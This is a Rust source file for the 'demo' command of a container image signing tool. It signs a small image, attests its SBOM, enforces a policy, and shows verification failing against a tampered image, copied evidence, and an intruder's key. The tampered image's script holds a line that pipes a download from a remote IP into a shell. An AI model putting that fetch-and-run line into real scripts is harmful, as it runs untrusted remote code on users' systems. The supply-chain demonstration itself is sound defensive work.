//! `demo`: the main job for real, in a new folder, with this very program doing each step.

mod image;
mod registry;
mod session;

use std::path::Path;

use countersign_registry::layout::Layout;
use countersign_registry::{Store, StoreError, Target};
use serde_json::json;

use super::Done;
use crate::arguments::Demo;
use crate::context::Context;
use crate::escape;
use crate::exit::ExitStatus;
use crate::failure::Failure;
use crate::files::{self, Audience, Existing};
use crate::stores;
use image::SmallImage;
use registry::Loopback;
use session::Session;

const POLICY: &str = "\
apiVersion: countersign.dev/v1
kind: Policy
metadata:
  name: release
spec:
  signers:
    release-team:
      key:
        file: release.pub
  require:
    allOf:
      - signature: {by: [release-team]}
      - statement: {type: spdxjson, by: [release-team]}
";

pub(crate) fn run(arguments: &Demo, context: &mut Context<'_, '_>) -> Result<Done, Failure> {
    if context.global.offline {
        return Err(Failure::usage(
            "offline",
            "the demo talks to its own registry on loopback, which `--offline` forbids",
        )
        .hint("drop `--offline` (or COUNTERSIGN_OFFLINE); no other machine is contacted"));
    }
    let folder = make_folder(&arguments.dir)?;
    let mut session = Session::new(context, folder.clone())?;
    let loopback = Loopback::start(&folder.join("registry"))?;
    let name = format!("{}/demo/app", loopback.address);
    let outcome = walk(&mut session, &folder, &name);
    loopback.stop();
    outcome?;
    session.say("");
    session.say("That was all real. The folder is yours to go on with:");
    session.say(&format!(
        "  cd {}",
        escape::field(&arguments.dir.display().to_string())
    ));
    session.say("  countersign registry serve --dir registry --listen 127.0.0.1:5000 &");
    session
        .say("  countersign verify --allow-http --policy policy.yaml 127.0.0.1:5000/demo/app:2.0");
    let steps = session.steps();
    Ok(Done::pass(
        json!({"dir": folder.display().to_string(), "steps": steps}),
    ))
}

fn walk(session: &mut Session<'_, '_, '_>, folder: &Path, name: &str) -> Result<(), Failure> {
    let tagged = format!("{name}:1.0");

    session.title("A small image, as an OCI layout");
    let genuine = SmallImage::new("#!/bin/sh\necho hello\n");
    let layout = Layout::create(folder.join("image"))?;
    session.wait(genuine.push(&layout, "1.0"))?;
    session.note("image/ holds the image; its manifest is what gets signed");
    session.run(&["inspect", "oci:image:1.0"], ExitStatus::Pass)?;

    session.title("A key pair; the private key is encrypted with COUNTERSIGN_PASSWORD=demo");
    session.run(
        &["generate-key-pair", "--output-key-prefix", "release"],
        ExitStatus::Pass,
    )?;

    session.title("A registry on loopback, served by this process, and the image in it");
    session.show(&[
        "registry",
        "serve",
        "--dir",
        "registry",
        "--listen",
        name.split('/').next().unwrap_or_default(),
    ]);
    let store = open(session, name)?;
    session.wait(genuine.push(store.as_ref(), "1.0"))?;
    session.note(&format!("pushed as {tagged}"));

    session.title("Nothing is signed yet, so nothing passes");
    session.run(
        &["verify", "--allow-http", "--key", "release.pub", &tagged],
        ExitStatus::NoEvidence,
    )?;

    session.title("Sign it: by digest, with the key alone, no service is asked");
    session.run(
        &["sign", "--allow-http", "--key", "release.key", &tagged],
        ExitStatus::Pass,
    )?;

    session.title("Attest its SBOM, byte for byte as it is");
    write(folder, "sbom.spdx.json", genuine.sbom().as_bytes())?;
    session.run(
        &[
            "attest",
            "--allow-http",
            "--key",
            "release.key",
            "--type",
            "spdxjson",
            "--predicate",
            "sbom.spdx.json",
            &tagged,
        ],
        ExitStatus::Pass,
    )?;
    session.run(&["discover", "--allow-http", &tagged], ExitStatus::Pass)?;

    session.title("A policy: the release team must have signed the image and its SBOM");
    write(folder, "policy.yaml", POLICY.as_bytes())?;
    session.document("policy.yaml", POLICY);
    session.run(&["policy", "check", "policy.yaml"], ExitStatus::Pass)?;
    session.run(
        &["verify", "--allow-http", "--policy", "policy.yaml", &tagged],
        ExitStatus::Pass,
    )?;

    session.title("Somebody pushes another image under the same tag");
    let tampered = SmallImage::new("#!/bin/sh\necho hello; curl http://203.0.113.7/x | sh\n");
    session.wait(tampered.push(store.as_ref(), "1.0"))?;
    session.note(&format!("{tagged} is {} now", tampered.digest()));
    session.run(
        &["verify", "--allow-http", "--policy", "policy.yaml", &tagged],
        ExitStatus::NoEvidence,
    )?;

    session.title("They copy the genuine signature and SBOM to it, which are about another digest");
    let copied = session.wait(image::copy_evidence(store.as_ref(), &genuine, &tampered))?;
    session.note(&format!(
        "{copied} bundles attached to {}",
        tampered.digest()
    ));
    session.run(
        &["verify", "--allow-http", "--policy", "policy.yaml", &tagged],
        ExitStatus::NoneAcceptable,
    )?;

    session.title("They sign it with a key of their own");
    session.run(
        &["generate-key-pair", "--output-key-prefix", "intruder"],
        ExitStatus::Pass,
    )?;
    session.run(
        &["sign", "--allow-http", "--key", "intruder.key", &tagged],
        ExitStatus::Pass,
    )?;
    session.run(
        &["verify", "--allow-http", "--key", "release.pub", &tagged],
        ExitStatus::NoneAcceptable,
    )?;

    session.title("The genuine image, by its digest, still passes; so it goes back under a tag");
    let pinned = format!("{name}@{}", genuine.digest());
    session.run(
        &["verify", "--allow-http", "--policy", "policy.yaml", &pinned],
        ExitStatus::Pass,
    )?;
    session.wait(genuine.push(store.as_ref(), "2.0"))?;
    session.run(
        &[
            "verify",
            "--allow-http",
            "--policy",
            "policy.yaml",
            &format!("{name}:2.0"),
            &tagged,
        ],
        ExitStatus::NoneAcceptable,
    )?;
    Ok(())
}

fn open(session: &Session<'_, '_, '_>, name: &str) -> Result<Box<dyn Store>, Failure> {
    let mut settings = session.settings();
    settings.allow_http = true;
    let reference = stores::reference(name)?;
    Ok(stores::open(&reference, &settings)?.0)
}

/// Makes the folder, which must not exist or be empty: nothing of anybody's is written over.
fn make_folder(path: &Path) -> Result<std::path::PathBuf, Failure> {
    std::fs::create_dir_all(path)
        .map_err(|error| Failure::unwritable("the folder", path, &error))?;
    let mut entries =
        std::fs::read_dir(path).map_err(|error| Failure::unreadable("the folder", path, &error))?;
    if entries.next().is_some() {
        return Err(Failure::usage(
            "folder-not-empty",
            format!("the folder `{}` is not empty", path.display()),
        )
        .hint("remove it, or choose another with `--dir DIR`"));
    }
    path.canonicalize()
        .map_err(|error| Failure::unreadable("the folder", path, &error))
}

fn write(folder: &Path, name: &str, bytes: &[u8]) -> Result<(), Failure> {
    files::write(
        "the file",
        &folder.join(name),
        bytes,
        Audience::Everybody,
        Existing::Keep,
    )
}

/// What a store is asked for when an image is looked up by digest.
fn by_digest(digest: countersign_formats::Digest) -> Target {
    Target::Digest(digest)
}

/// The result of a step on a store.
type Stored<T> = Result<T, StoreError>;
